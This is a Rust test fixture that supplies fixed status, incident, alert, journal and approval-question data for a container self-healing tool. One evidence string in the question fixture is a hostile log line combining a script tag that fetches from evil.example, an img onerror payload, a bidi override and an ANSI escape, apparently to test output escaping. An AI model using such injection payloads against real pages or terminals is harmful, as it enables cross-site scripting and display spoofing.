//! A house with fixed answers: every field of every view is set, so that nothing goes untested for want of a value.

use std::path::Path;
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};

use engine::view::{Sight, Subject, Unclear};
use model::alert::{Alert, Name, State, Transition};
use model::command::{Ask, CommandId, Reply, ReplyLine};
use model::event::{self, Entry, Event};
use model::fact::{Health, Run, SourceTime};
use model::incident::{Evidence, EvidenceId, IncidentId, Outcome};
use model::intent::{Author, Intent, Wanted};
use model::policy::Row;
use model::recovery::{self, Failure, RecoveryId, Restarted};
use model::settings::{Mode, Policy, Settings};
use model::view::{
    Deployment, Explanation, Frozen, Incident, Line, Next, Question, Resource, Source, Stand, Standing, Status, Tone,
    Why,
};
use model::{Now, ResourceId, Tick, Wall};
use runtime::Closed;
use store::{Journal as _, Sqlite};

pub(crate) struct Fixed {
    pub(crate) status: Mutex<Status>,
    pub(crate) incidents: Vec<Incident>,
    pub(crate) alerts: Vec<model::view::Alert>,
    pub(crate) journal: Vec<Event>,
    /// Whether commands are taken.
    pub(crate) takes: bool,
    /// Whether the loop never answers.
    pub(crate) stuck: AtomicBool,
    /// What is asked of the incident 41.
    pub(crate) question: Mutex<Option<Question>>,
    /// Whether there is a key for links.
    pub(crate) links: bool,
    pub(crate) commands: Mutex<Vec<(CommandId, String, Ask)>>,
}

pub(crate) fn now() -> Now {
    Now { wall: Wall(1_795_442_482_045), tick: Tick(90_000) }
}

/// An entry a second after the one before.
pub(crate) fn entry(seq: u64, event: Event) -> Entry {
    let ms = seq.saturating_mul(1_000);
    let at = Now { wall: Wall(now().wall.0 + ms.cast_signed()), tick: Tick(ms) };
    Entry { seq, version: event::VERSION, epoch: 1, at, event }
}

pub(crate) fn id(number: u64) -> IncidentId {
    IncidentId { instance: "web-1".into(), number }
}

pub(crate) fn resource(service: &str) -> ResourceId {
    ResourceId::docker("web-1", "shop", service, 1)
}

pub(crate) fn alert(service: &str, to: State) -> Event {
    let alert = Alert { name: Name::ServiceDown, resource: resource(service) };
    Event::AlertChanged(Transition { alert, to, because: format!("{service} died: exit 1"), instead: None })
}

pub(crate) fn opened(number: u64, service: &str) -> Event {
    let because = "exit 1".to_owned();
    Event::IncidentOpened {
        id: id(number),
        resource: resource(service),
        alert: Name::ServiceDown,
        source_at: None,
        because,
    }
}

pub(crate) fn resolved(number: u64) -> Event {
    Event::IncidentResolved { id: id(number), outcome: Outcome::Healed, because: "it held".to_owned() }
}

fn seen(service: &str, standing: Standing, by: Author) -> Resource {
    Resource {
        id: resource(service),
        short: format!("shop/{service}"),
        standing,
        run: Some(Run::Running),
        health: Some(Health::Healthy),
        intent: Some(Intent {
            wanted: Wanted::Running,
            by,
            at: now(),
            source_at: Some(SourceTime(1)),
            because: "seen running".to_owned(),
        }),
        since: Some(now().wall),
        why: "runs".to_owned(),
        incident: Some(id(41)),
        image: "shop:1".to_owned(),
        incarnation: Some("0123456789ab".to_owned()),
        remedy: Some("healer start shop/web".to_owned()),
    }
}

fn deployment(name: &str, host: &str, standing: Standing, resources: Vec<Resource>) -> Deployment {
    let (wanted, why) = ("running".to_owned(), "well".to_owned());
    Deployment {
        name: name.to_owned(),
        host: host.to_owned(),
        standing,
        wanted,
        since: Some(now().wall),
        why,
        resources,
        folder: None,
    }
}

fn incident(number: u64, standing: Standing, phase: &str, ended: Option<Wall>) -> Incident {
    Incident {
        id: id(number),
        resource: resource("web"),
        short: "shop/web".to_owned(),
        phase: phase.to_owned(),
        status: "pending".to_owned(),
        standing,
        opened: now().wall,
        ended,
        cause: "crash".to_owned(),
        why: "exit 1".to_owned(),
        attempts: 1,
        suggestions: Vec::new(),
    }
}

fn recovery() -> model::view::Recovery {
    let failed = vec![Failure { resource: resource("db"), because: "it could not be started".to_owned() }];
    model::view::Recovery {
        id: RecoveryId { instance: "web-1".into(), number: 3 },
        host: "local".to_owned(),
        restarted: Restarted::Host,
        at: now().wall,
        because: "recovered 1 deployment after host restart".to_owned(),
        outcome: Some(recovery::Outcome { recovered: vec![resource("web")], left: vec![resource("old")], failed }),
    }
}

/// A question about what hostile logs and labels say.
fn question() -> Question {
    let asked = crate::link::tests::asked();
    let evidence = |number, source: &str, text: &str| Evidence {
        id: EvidenceId(number),
        source: source.to_owned(),
        text: text.to_owned(),
    };
    Question {
        now: now(),
        resource: resource("web"),
        short: "shop/web".to_owned(),
        because: "web died: exit code 137".to_owned(),
        cause: "out of memory in the main process (sure; the engine reports an out-of-memory kill)".to_owned(),
        evidence: vec![
            evidence(1, "event", "oom: a process in it was killed for want of memory"),
            evidence(
                2,
                "log",
                "</li><script>fetch('//evil.example')</script>\u{202e}\u{1b}[31m <img src=x onerror=alert(1)>",
            ),
        ],
        why_asked: "the mode is suggest".to_owned(),
        steps: vec!["start shop/web (at most 30 s)".to_owned()],
        risk: "safe".to_owned(),
        needed_by: vec!["shop/proxy".to_owned(), "shop/mail".to_owned()],
        down_meanwhile: "nothing more than now: shop/web is down already".to_owned(),
        undo: "by a stop: `healer stop shop/web`".to_owned(),
        expires: now().wall_at(asked.until),
        standing: "waits for your approval".to_owned(),
        stand: Stand::Open,
        asked,
    }
}

impl Fixed {
    pub(crate) fn new() -> Fixed {
        let down = Resource {
            run: None,
            health: None,
            intent: None,
            since: None,
            incident: None,
            incarnation: None,
            remedy: None,
            ..seen("db", Standing::NeedsYou, Author::FirstSight)
        };
        let web = seen("web", Standing::Well, Author::Person("ann".to_owned()));
        let status = Status {
            instance: "web-1".to_owned(),
            version: "0.1.0".to_owned(),
            now: now(),
            running_since: Some(now().wall),
            mode: Mode::Auto,
            frozen: Some(Frozen { by: "ann".to_owned(), at: now(), because: "deploy".to_owned() }),
            warnings: vec!["look here".to_owned()],
            sources: vec![Source {
                name: "local".to_owned(),
                well: true,
                because: String::new(),
                untold: String::new(),
            }],
            recoveries: vec![recovery()],
            deployments: vec![
                deployment("shop", "web-1", Standing::NeedsYou, vec![down, web]),
                deployment("wiki", "web-1", Standing::Well, vec![]),
                deployment("wiki", "web-2", Standing::Well, vec![]),
            ],
            next: vec![Next { at: now().wall, what: "verify shop/web".to_owned() }],
            waiting: vec!["approval 41".to_owned()],
        };
        let incidents = vec![
            incident(41, Standing::NeedsYou, "awaiting_approval", None),
            incident(40, Standing::Well, "resolved", Some(now().wall)),
        ];
        let journal = vec![
            alert("web", State::Firing),
            opened(41, "web"),
            alert("mail", State::Firing),
            alert("mail", State::Resolved),
        ];
        let (because, since) = ("web died: exit 1".to_owned(), now().wall);
        let name = Name::ServiceDown;
        let alerts =
            vec![model::view::Alert { name, resource: resource("web"), since, because, incident: Some(id(41)) }];
        let (takes, stuck) = (true, AtomicBool::new(false));
        Fixed {
            status: Mutex::new(status),
            incidents,
            alerts,
            journal,
            takes,
            stuck,
            question: Mutex::new(Some(question())),
            links: true,
            commands: Mutex::default(),
        }
    }

    /// Writes the journal, as a healer that ran here before did.
    pub(crate) fn write_journal(&self, state_dir: &Path) {
        append(state_dir, 0, &self.journal);
    }

    pub(crate) async fn status(&self) -> Result<Status, Closed> {
        if self.stuck.load(Ordering::SeqCst) {
            std::future::pending::<()>().await;
        }
        Ok(self.status.lock().unwrap().clone())
    }

    pub(crate) fn subject(&self, words: &str) -> Result<Subject, Unclear> {
        match words {
            "shop" => Ok(Subject::Deployment(vec![resource("web"), resource("mail")])),
            "shop/web" => Ok(Subject::Resource(resource("web"))),
            "web" => {
                let among = ["hello/web", "shop/web"].map(str::to_owned).to_vec();
                Err(Unclear::Several { name: words.to_owned(), among })
            }
            _ => words.parse().map(Subject::Incident).map_err(|_| Unclear::Nothing),
        }
    }

    /// Tells which entries it was given.
    pub(crate) fn why(&self, subject: &Subject, entries: &[Entry]) -> Why {
        let evidence = Evidence { id: EvidenceId(1), source: "event".to_owned(), text: "exit 1".to_owned() };
        Why {
            headline: format!("{subject:?}"),
            resource: self.status.lock().unwrap().deployments[0].resources.last().cloned(),
            incidents: self.incidents.clone(),
            story: Fixed::lines(entries),
            not_done: vec!["nothing".to_owned()],
            evidence: vec![evidence],
        }
    }

    /// One that applies, one that is narrower and never reached, and the built-in one.
    pub(crate) fn settings() -> Settings {
        let mut settings = Settings::default();
        let asks = Policy { auto_heal: false, ..Policy::built_in() };
        let narrow = |deployment: &str| Policy { deployment: Some(deployment.to_owned()), ..asks.clone() };
        settings.policies = vec![narrow("wiki"), narrow("sh*"), narrow("shop")];
        settings
    }

    pub(crate) fn policies() -> Vec<Row> {
        engine::view::policies(&Fixed::settings())
    }

    /// As an engine tells it that has seen nothing.
    pub(crate) fn explained(subject: &Subject, issue_type: Option<String>) -> Vec<Explanation> {
        let engine = engine::Engine::new(engine::State::default(), std::sync::Arc::new(Fixed::settings()), "0");
        engine::view::explain(&engine, subject, issue_type.as_deref(), Sight::Live, now())
    }

    pub(crate) fn question(&self, incident: &IncidentId) -> Option<Question> {
        self.question.lock().unwrap().clone().filter(|question| question.asked.incident == *incident)
    }

    /// Decides as the engine does.
    fn answer(&self, id: &CommandId, who: &str, ask: &Ask) {
        let Ask::Answer { question: asked, approved, because } = ask else { return };
        let again = self.commands.lock().unwrap().iter().filter(|(known, _, _)| known == id).count() > 1;
        let mut question = self.question.lock().unwrap();
        let Some(question) = question.as_mut().filter(|question| self.takes && !again && question.asked == **asked)
        else {
            return;
        };
        let (by, at) = (who.to_owned(), now().wall);
        question.stand = Stand::Decided { by, approved: *approved, because: because.clone(), at };
        question.standing = if *approved { "start under way" } else { "needs you: rejected" }.to_owned();
    }

    pub(crate) fn command(&self, id: CommandId, who: String, ask: Ask) -> Reply {
        self.commands.lock().unwrap().push((id.clone(), who.clone(), ask.clone()));
        self.answer(&id, &who, &ask);
        let line = |resource, text: &str| ReplyLine { resource, text: text.to_owned(), failed: !self.takes };
        let lines = vec![line(Some(resource("web")), "refused: absent"), line(None, "nothing done")];
        Reply::new(id, self.takes, lines)
    }

    pub(crate) fn lines(entries: &[Entry]) -> Vec<Line> {
        let line = |entry: &Entry| Line {
            at: entry.at.wall,
            incident: entry.event.incident().cloned(),
            resource: entry.event.resource().cloned(),
            tone: Tone::Plain,
            text: format!("{} {}", entry.seq, entry.event.name()),
        };
        entries.iter().map(line).collect()
    }
}

/// Adds events to the journal after the entry of this number.
pub(crate) fn append(state_dir: &Path, last: u64, events: &[Event]) {
    let mut journal = Sqlite::open(state_dir).unwrap();
    let epoch = journal.lead().unwrap();
    let entries = (last + 1..).zip(events).map(|(seq, event)| Entry { epoch, ..entry(seq, event.clone()) });
    journal.append(epoch, last, &entries.collect::<Vec<_>>()).unwrap();
}
